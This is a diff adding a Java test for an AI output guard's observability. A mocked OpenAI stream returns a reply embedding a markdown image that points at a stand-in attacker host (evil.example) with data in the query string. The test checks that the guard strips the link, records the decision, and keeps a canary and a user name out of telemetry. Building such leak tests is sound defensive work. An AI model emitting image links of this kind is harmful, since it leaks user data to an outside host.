@@ -166,4 +166,39 @@ class GuardObservabilityOpenAiTests {
 		});
 	}
 
+	@Test
+	void aGuardedStreamIsObservedUntilItEnds() throws IOException {
+		this.server.close();
+		this.server = new MockWebServer();
+		this.server.enqueue(new MockResponse.Builder().code(200)
+			.addHeader("Content-Type", "text/event-stream")
+			.body(OpenAiInputGuardTests.sse("Refunds: see ![chart](https://evil.example/c.png?d=abc123) for details."))
+			.build());
+		this.server.start(0);
+		run((context) -> {
+			String reply = String.join("",
+					client(context).prompt()
+						.user("Who handles refunds? " + CANARY)
+						.stream()
+						.content()
+						.collectList()
+						.block(java.time.Duration.ofSeconds(20)));
+			assertThat(reply).startsWith("Refunds: see ").doesNotContain("evil.example");
+			TestObservationRegistry registry = (TestObservationRegistry) context.getBean(ObservationRegistry.class);
+			assertThat(this.observed).filteredOn((observed) -> GuardObservation.NAME.equals(observed.getName()))
+				.extracting((observed) -> observed.getLowCardinalityKeyValue("direction").getValue() + "/"
+						+ observed.getLowCardinalityKeyValue("decision").getValue())
+				.contains("output/allow");
+			assertThat(this.observed)
+				.filteredOn((observed) -> GuardObservation.NAME.equals(observed.getName())
+						&& "output".equals(observed.getLowCardinalityKeyValue("direction").getValue()))
+				.singleElement()
+				.satisfies((observed) -> assertThat(observed.getParentObservation()).isNotNull());
+			assertThat(registry).hasObservationWithNameEqualTo(GuardObservation.NAME).that().hasBeenStopped();
+			assertThat(this.observed)
+				.allSatisfy((observed) -> assertThat(observed.getAllKeyValues().toString()).doesNotContain(CANARY)
+					.doesNotContain("jane"));
+		});
+	}
+
 }
